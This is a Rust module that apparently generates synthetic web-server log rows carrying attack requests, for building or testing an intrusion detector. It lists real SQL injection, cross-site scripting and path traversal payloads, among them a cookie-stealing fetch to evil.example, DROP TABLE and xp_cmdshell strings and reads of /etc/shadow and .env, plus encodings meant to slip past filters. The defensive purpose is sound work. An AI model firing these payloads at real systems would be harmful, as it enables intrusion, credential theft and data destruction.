//! Payloads in the target or in the user agent, written in many ways.

use std::fmt::Write as _;

use super::{Ground, Threat};
use crate::rng::Rng;

const SQL_INJECTION: &[&str] = &[
    "1' OR '1'='1",
    "1' OR 1=1--",
    "' UNION SELECT username, password FROM users--",
    "-1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176,version())#",
    "1; DROP TABLE users--",
    "1' AND SLEEP(5)--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "admin'--",
    "1' ORDER BY 8--",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- -",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "') OR ('a'='a",
    "1 OR 1=1",
    "1' AND BENCHMARK(5000000,MD5(1))#",
    "1 AND 7351=7351",
    "1'||(SELECT password FROM users WHERE id=1)||'",
    "1;EXEC xp_cmdshell('dir')",
    "x' AND email IS NULL; --",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "1'/**/OR/**/1=1#",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,table_name FROM information_schema.tables",
    "1' AND pg_sleep(10)--",
    "1 UNION SELECT 1,load_file('/etc/hosts')",
    "1' HAVING 1=1--",
    "' OR 'x' LIKE 'x",
    "1) OR (1=1",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "\"><script>alert(String.fromCharCode(88))</script>",
    "javascript:alert(1)",
    "\" onmouseover=\"alert(1)",
    "<body onload=alert('x')>",
    "<iframe src=javascript:alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=confirm(1)>",
    "'><img src=1 onerror=fetch('//evil.example/'+document.cookie)>",
    "<a href=\"javascript:eval(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<script src=//evil.example/x.js></script>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "';alert(document.domain)//",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "../../../../../../etc/shadow",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "../../.env",
    "../../../../proc/self/environ",
    "..;/..;/manager/html",
    "file:///etc/passwd",
    "../../../../boot.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../etc/passwd%00.png",
    "..././..././etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
];

/// Where payloads are put.
const TARGETS: &[&str] = &[
    "/search?q=",
    "/products?id=",
    "/api/v1/items?filter=",
    "/download?file=",
    "/page?name=",
    "/index.php?id=",
    "/view?template=",
    "/api/v1/users?sort=",
];

/// How a payload is written.
#[derive(Clone, Copy)]
enum Spelling {
    Plain,
    Encoded,
    Twice,
    MixedCase,
    /// Comments for the spaces of SQL, else only some characters encoded.
    Evading,
    Agent,
}

const SPELLINGS: &[(&str, Spelling)] = &[
    ("as it is", Spelling::Plain),
    ("encoded", Spelling::Encoded),
    ("encoded twice", Spelling::Twice),
    ("mixed case", Spelling::MixedCase),
    ("evading", Spelling::Evading),
    ("in the user agent", Spelling::Agent),
];

pub fn plant(ground: &mut Ground) {
    for (threat, payloads) in [
        (Threat::SqlInjection, SQL_INJECTION),
        (Threat::Xss, XSS),
        (Threat::PathTraversal, PATH_TRAVERSAL),
    ] {
        for &(style, spelling) in SPELLINGS {
            let client = ground.attacker();
            let count = ground.rng.between(1, 12).cast_unsigned();
            let gap = ground.rng.real(1.0, 60.0);
            let target = ground.rng.pick(TARGETS);
            let asking = client.clone();
            ground.plant(
                (style, &[threat]),
                &client,
                (count, gap),
                move |rng, _, second| {
                    let payload = rng.pick(payloads);
                    let payload = spell(rng, payload, spelling, threat);
                    let status = rng.pick(&[200, 200, 400, 403, 500]);
                    let in_agent = matches!(spelling, Spelling::Agent);
                    let endpoint = if in_agent {
                        "/".into()
                    } else {
                        format!("{target}{payload}")
                    };
                    let mut row =
                        asking.asks(rng, second, ("GET", endpoint), status, (90.0, 3000.0));
                    if in_agent {
                        row.user_agent = Some(format!("Mozilla/5.0 {payload}").into());
                    }
                    row
                },
            );
        }
    }
}

fn spell(rng: &mut Rng, payload: &str, spelling: Spelling, threat: Threat) -> String {
    match spelling {
        Spelling::Plain => payload.replace(' ', "+"),
        Spelling::Agent => payload.to_string(),
        Spelling::Encoded => encode(payload, |_| true),
        Spelling::Twice => encode(&encode(payload, |_| true), |byte| byte == b'%'),
        Spelling::MixedCase => encode(&mixed(rng, payload), |byte| byte != b'%'),
        Spelling::Evading if threat == Threat::SqlInjection => {
            encode(&mixed(rng, payload).replace(' ', "/**/"), |byte| {
                b"'\"#<>".contains(&byte)
            })
        }
        Spelling::Evading => encode(payload, |byte| b"<>.\"' ".contains(&byte)),
    }
}

fn mixed(rng: &mut Rng, text: &str) -> String {
    let flip = |character: char| {
        if rng.chance(0.5) {
            character.to_ascii_uppercase()
        } else {
            character.to_ascii_lowercase()
        }
    };
    text.chars().map(flip).collect()
}

/// Percent-encodes what is neither a letter nor a digit and is `chosen`.
fn encode(text: &str, chosen: impl Fn(u8) -> bool) -> String {
    let mut encoded = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || !chosen(byte) {
            encoded.push(char::from(byte));
        } else {
            // Writing to a String cannot fail.
            let _ = write!(encoded, "%{byte:02X}");
        }
    }
    encoded
}
